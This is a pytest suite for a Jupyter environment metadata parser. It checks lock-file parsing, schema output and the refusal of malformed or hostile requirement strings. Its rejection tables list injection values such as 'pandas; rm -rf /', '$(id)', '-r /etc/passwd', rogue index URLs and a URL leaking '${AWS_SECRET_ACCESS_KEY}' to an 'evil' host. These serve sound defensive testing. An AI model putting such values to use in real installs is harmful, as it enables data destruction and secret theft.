"""The block: closed, versioned, and every refusal says where."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyter_envs.errors import InputError
from jupyter_envs.model import schema
from jupyter_envs.model.block import EMPTY, HISTORY_LIMIT, Block, parse_block
from jupyter_envs.model.requirement import checked_requirement

SHA = "ab" * 32
WHEEL = "numpy-2.5.5-cp312-cp312-manylinux_2_28_x86_64.whl"


def row(**changes: Any) -> dict[str, Any]:
    return {"name": "numpy", "version": "2.5.5", "wheels": {WHEEL: {"sha256": SHA, "size": 5}}} | changes


def lock(*rows: dict[str, Any], **changes: Any) -> dict[str, Any]:
    value = {
        "lock-version": "1.0",
        "created-by": "jupyter-envs 0.1.0",
        "spec": f"sha256:{SHA}",
        "requires-python": "==3.12.*",
        "packages": list(rows) or [row()],
    }
    return value | changes


FULL = {
    "version": 1,
    "requires-python": ">=3.11",
    "dependencies": ["pandas>=2", "matplotlib", "torch"],
    "indexes": {"torch-cu124": ["torch"]},
    "exclude-newer": "2026-11-21T00:00:00Z",
    "conda": {"channels": ["conda-forge"], "dependencies": ["gdal>=3.9"]},
    "project": "../pyproject.toml",
    "overrides": ["numpy==1.26.4"],
    "no-deps": ["torch"],
    "lock": lock(
        row(marker='sys_platform == "linux"', index="torch-cu124"),
        {"name": "docopt", "version": "0.6.2", "sdist": {"docopt-0.6.2.tar.gz": {"sha256": SHA}}},
        {"name": "x", "version": "1", "vcs": {"type": "git", "url": "https://host/x.git", "commit-id": "ab" * 20}},
        {"name": "y", "version": "1", "directory": {"id": "ab" * 8, "editable": True}},
        conda=[
            {"name": "gdal", "version": "3.9", "build": "h1", "subdir": "linux-64", "channel": "conda-forge",
             "sha256": SHA, "size": 1}
        ],
    ),
    "outputs": {"lock": f"sha256:{SHA}", "python": "3.12.4", "platform": "linux-x86_64", "at": "2026-11-21T00:00:00Z"},
    "history": [
        {"at": "2026-11-21T00:00:00Z", "did": "install pandas", "spec": {"dependencies": ["six"]},
         "changed": {"pandas": [None, "3.1.1"], "numpy": ["2.5.4", "2.5.5"]}}
    ],
}  # fmt: skip


def test_every_key_of_version_1_is_read_and_written_back_as_it_was() -> None:
    assert parse_block(FULL).to_dict() == FULL


def test_what_we_write_fits_the_published_schema() -> None:
    published = json.loads(schema.FILE.read_text())
    assert published == schema.schema(), "run: python -m jupyter_envs.model.schema"
    jsonschema.validate(parse_block(FULL).to_dict(), published)


def test_the_key_order_of_a_block_is_that_of_the_format() -> None:
    backwards = dict(reversed(list(FULL.items())))
    assert list(parse_block(backwards).to_dict()) == list(FULL)


BAD: list[tuple[dict[str, Any] | list[Any] | None, str, str]] = [
    ([], "meta-shape", "metadata.jupyter_envs"),
    (None, "meta-shape", "metadata.jupyter_envs"),
    ({}, "meta-version", "version"),
    ({"version": True}, "meta-version", "version"),
    ({"version": 2, "new": 1}, "meta-newer", "version 2"),
    ({"version": 10**400}, "meta-newer", "version 1000000 was"),
    ({"version": 1, "find_links": "x"}, "meta-unknown-key", "'find_links'"),
    ({"version": 1, "env": {}}, "meta-unknown-key", "'env'"),
    ({"version": 1, "\ud800": 1}, "meta-text", "metadata.jupyter_envs"),
    ({"version": 1, "conda": {"\udfff": 1}}, "meta-text", "metadata.jupyter_envs"),
    ({"version": 1, "lock": lock(row(wheels={WHEEL: {"sha256": SHA, "\ud800": 1}}))}, "meta-text", "metadata"),
    ({"version": 1, "lock": lock(row(wheels={"\ud800": {"sha256": SHA}}))}, "lock-filename", "lock.packages[0]"),
    ({"version": 1, "indexes": {"\ud800": ["x"]}}, "index-name", "indexes"),
    ({"version": 1, "requires-python": "/tmp/python"}, "python-spec", "requires-python"),
    ({"version": 1, "dependencies": [1]}, "req-type", "dependencies[0]"),
    ({"version": 1, "dependencies": ["a", "numpy >"]}, "req-syntax", "dependencies[1]"),
    ({"version": 1, "dependencies": ["x"] * 301}, "req-too-many", "dependencies"),
    ({"version": 1, "indexes": {"https://evil/": ["x"]}}, "index-name", "indexes"),
    ({"version": 1, "indexes": {"ok": ["../x"]}}, "package-name", "indexes.ok"),
    ({"version": 1, "project": "/etc/pyproject.toml"}, "project-path", "project"),
    ({"version": 1, "exclude-newer": "now"}, "timestamp", "exclude-newer"),
    ({"version": 1, "overrides": ["numpy @ https://x/numpy.whl"]}, "req-direct-url", "overrides[0]"),
    ({"version": 1, "overrides": ["-e ."]}, "req-option-or-path", "overrides[0]"),
    ({"version": 1, "overrides": ["a", "numpy[x]==1"]}, "req-syntax", "overrides[1]"),
    ({"version": 1, "no-deps": ["--index-url"]}, "package-name", "no-deps"),
    ({"version": 1, "no-deps": ["x"] * 301}, "req-too-many", "no-deps"),
    ({"version": 1, "lock": lock(row(version="x"))}, "lock-version", "lock.packages[0].version"),
    ({"version": 1, "lock": lock(row(name="../../x"))}, "package-name", "lock.packages[0].name"),
    ({"version": 1, "lock": lock(row(name="De_Mo"))}, "package-name", "lock.packages[0].name"),
    ({"version": 1, "lock": lock(row(wheels={}))}, "lock-files", "lock.packages[0]"),
    ({"version": 1, "lock": lock(row(), row())}, "lock-dup", "lock.packages[1]"),
    ({"version": 1, "lock": lock(row(wheels={WHEEL: {"sha256": "md5"}}))}, "lock-hash", WHEEL),
    ({"version": 1, "lock": lock(row(wheels={WHEEL: {"sha256": SHA, "size": -1}}))}, "lock-size", WHEEL),
    ({"version": 1, "lock": lock(row(wheels={"../x.whl": {"sha256": SHA}}))}, "lock-filename", "../x.whl"),
    ({"version": 1, "lock": lock(row(name="scipy"))}, "lock-filename-mismatch", WHEEL),
    ({"version": 1, "lock": lock(row(version="1"))}, "lock-filename-mismatch", WHEEL),
    ({"version": 1, "lock": lock(row(url="https://evil/"))}, "meta-unknown-key", "lock.packages"),
    ({"version": 1, "lock": lock(row(wheels={}, vcs={"type": "git", "url": "file:///etc", "commit-id": "a" * 40}))},
     "url-scheme", "vcs"),
    ({"version": 1, "lock": lock(row(wheels={}, vcs={"type": "git", "url": "https://u:p@h/x", "commit-id": "a" * 40}))},
     "url-credentials", "vcs"),
    ({"version": 1, "lock": lock(**{"requires-python": ">=3.12"})}, "lock-python", "lock.requires-python"),
]  # fmt: skip


@pytest.mark.parametrize(("value", "code", "where"), BAD, ids=[f"{code}-{i}" for i, (_, code, _) in enumerate(BAD)])
def test_a_bad_block_is_refused_with_a_code_and_a_place(value: object, code: str, where: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_block(value)
    assert (caught.value.code, where in caught.value.sentence) == (code, True), caught.value.sentence


def test_a_block_nested_too_deep_is_refused_quickly() -> None:
    deep: Any = []
    for _ in range(5000):
        deep = [deep]
    with pytest.raises(InputError, match="nested deeper"):
        parse_block({"version": 1, "conda": deep})


REFUSED = {
    "--index-url=http://evil/": "req-option-or-path",
    "--extra-index-url http://evil/ x": "req-option-or-path",
    "-r /etc/passwd": "req-option-or-path",
    " -e .": "req-option-or-path",
    "./local": "req-option-or-path",
    "/abs/path.whl": "req-option-or-path",
    "~/x.whl": "req-option-or-path",
    "pandas\n--index-url http://evil": "req-charset",
    "pandas\r": "req-charset",
    "a\0b": "req-charset",
    "p\u202eandas": "req-charset",
    "evil @ https://evil/x.whl": "req-direct-url",
    "x @ git+https://evil/x": "req-direct-url",
    "x @ file:///etc": "req-direct-url",
    "x @ https://evil/${AWS_SECRET_ACCESS_KEY}": "req-metachar",
    "sub/dir": "req-syntax",
    "http://evil/x.whl": "req-syntax",
    "pandas # comment": "req-metachar",
    "pandas; rm -rf /": "req-syntax",
    "pandas && id": "req-syntax",
    "$(id)": "req-metachar",
    "`id`": "req-metachar",
    "": "req-empty",
    "p" * 600: "req-long",
    "pandas --hash=sha256:ab": "req-syntax",
}


@pytest.mark.parametrize(("text", "code"), REFUSED.items())
def test_a_requirement_that_is_more_than_a_requirement_is_refused(text: str, code: str) -> None:
    with pytest.raises(InputError) as caught:
        checked_requirement(text, "dependencies[0]")
    assert caught.value.code == code
    assert caught.value.sentence.startswith("dependencies[0]")


NAMES = st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,20}[A-Za-z0-9])?", fullmatch=True)
LIMITS = st.sampled_from(["", ">=1", " == 2.0 ", "~=1.4", "!=3,<9", ">=1 ; python_version<'3.13'"])


@given(NAMES, st.sampled_from(["", "[a]", "[B,a]"]), LIMITS)
def test_an_accepted_requirement_is_stable_and_free_of_metacharacters(name: str, extras: str, limit: str) -> None:
    text = checked_requirement(name + extras + limit, "x").text
    assert checked_requirement(text, "x").text == text
    assert not set(text) & set("$`#\\\n/@") and not text.startswith("-")


def test_equal_specs_have_equal_digests_whatever_their_order_and_spelling() -> None:
    one = parse_block({"version": 1, "dependencies": ["Pandas >= 2", "six"]})
    two = parse_block({"version": 1, "dependencies": ["six", "pandas>=2"]})
    assert one.spec.digest == two.spec.digest
    assert one.spec.digest != parse_block({"version": 1, "dependencies": ["six"]}).spec.digest


def test_history_and_outputs_do_not_change_the_lock_digest() -> None:
    with_history = parse_block(FULL)
    without = parse_block({k: v for k, v in FULL.items() if k not in ("history", "outputs")})
    assert with_history.lock and without.lock
    assert with_history.lock.digest == without.lock.digest
    assert with_history.digest != without.digest


def test_history_keeps_the_last_twenty_changes() -> None:
    block: Block = EMPTY
    full = parse_block(FULL)
    assert full.lock
    for i in range(HISTORY_LIMIT + 5):
        block = block.changed_to(full.spec, full.lock, f"install p{i}", {f"p{i}": (None, "1")})
    assert [entry.did for entry in block.history][:1] == ["install p5"]
    assert len(block.history) == HISTORY_LIMIT
    assert parse_block(block.to_dict()) == block


def test_the_schema_file_is_shipped_in_the_package() -> None:
    assert schema.FILE.parent == Path(schema.__file__).parent


def test_the_schema_is_the_same_whichever_version_of_msgspec_makes_it() -> None:
    older = {"description": "One\n    two", "anyOf": [{"type": "null"}, {"$ref": "x"}]}
    assert schema.same(older) == {"description": "One\ntwo", "anyOf": [{"$ref": "x"}, {"type": "null"}]}
